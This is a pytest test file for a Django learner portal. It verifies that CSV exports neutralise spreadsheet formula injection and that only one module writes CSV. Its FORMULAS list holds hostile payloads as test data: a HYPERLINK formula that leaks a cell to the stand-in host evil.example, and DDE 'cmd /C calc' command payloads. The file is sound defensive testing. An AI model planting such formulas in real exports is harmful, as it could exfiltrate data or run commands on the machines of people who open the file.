"""Every CSV the portal writes opens in a spreadsheet without running a formula (OWASP CSV injection)."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings

from learnerportal import spreadsheets

#: Texts a spreadsheet would run, each as the cell someone could plant.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click to verify")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(1)",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t",
]
#: Texts a spreadsheet shows as they are: written unchanged.
PLAIN = ["Amara Okafor-Mensah", "a=b", "1-2", "email@example.org", "'quoted", " plain", "", "中文 🎓"]


def written(*cells):
    stream = io.StringIO(newline="")
    spreadsheets.writer(stream).writerow(cells)
    return stream.getvalue()


def read_back(text):
    return next(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_marked_as_text(text):
    assert read_back(written(text)) == ["'" + text]


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_written_exactly(text):
    assert read_back(written(text)) == [text]


def test_numbers_stay_numbers_and_text_is_quoted():
    line = written(-3, Decimal("-12.50"), 2.5, "-3", None, True)

    assert line == '-3,-12.50,2.5,"\'-3","","True"\r\n'


def test_a_separator_of_another_locale_cannot_start_a_new_cell():
    # Excel in many locales splits on ";": the quotes keep the planted part inside the cell.
    assert written("name;=HYPERLINK(1)") == '"name;=HYPERLINK(1)"\r\n'


def test_the_dict_writer_neutralises_too_and_refuses_unknown_columns():
    stream = io.StringIO(newline="")
    writer = spreadsheets.DictWriter(stream, ["course", "learner"])
    writer.writeheader()
    writer.writerows([{"course": "-1+1", "learner": "noor"}, {"learner": "=1"}])

    assert list(csv.reader(io.StringIO(stream.getvalue(), newline=""))) == [
        ["course", "learner"],
        ["'-1+1", "noor"],
        ["", "'=1"],
    ]
    with pytest.raises(ValueError, match="Not columns of this file: grade"):
        writer.writerow({"grade": "1"})


def _csv_writer_uses(path):
    """Return the lines of ``path`` that make a ``csv`` writer (``csv.writer``, ``csv.DictWriter``, ``_csv``)."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    modules = {"csv", "_csv"}
    aliases = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
        if alias.name in modules
    }
    lines = []
    for node in ast.walk(tree):
        imported = isinstance(node, ast.ImportFrom) and node.module in modules
        if imported and any(alias.name in {"writer", "DictWriter", "*"} for alias in node.names):
            lines.append(node.lineno)
        attribute = isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
        if attribute and isinstance(node.value, ast.Name) and node.value.id in aliases:
            lines.append(node.lineno)
    return lines


def test_no_module_but_spreadsheets_writes_csv():
    root = Path(settings.BASE_DIR)
    skipped = {"var", "node_modules", "staticfiles", "test-artifacts", "__pycache__"}
    own = Path(spreadsheets.__file__).resolve()
    offenders = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root)
        if any(part.startswith(".") or part in skipped for part in relative.parts[:-1]) or path.resolve() == own:
            continue
        offenders += [f"{relative}:{line}" for line in _csv_writer_uses(path)]

    assert offenders == [], "write CSV with learnerportal.spreadsheets.writer / DictWriter (OWASP CSV injection)"
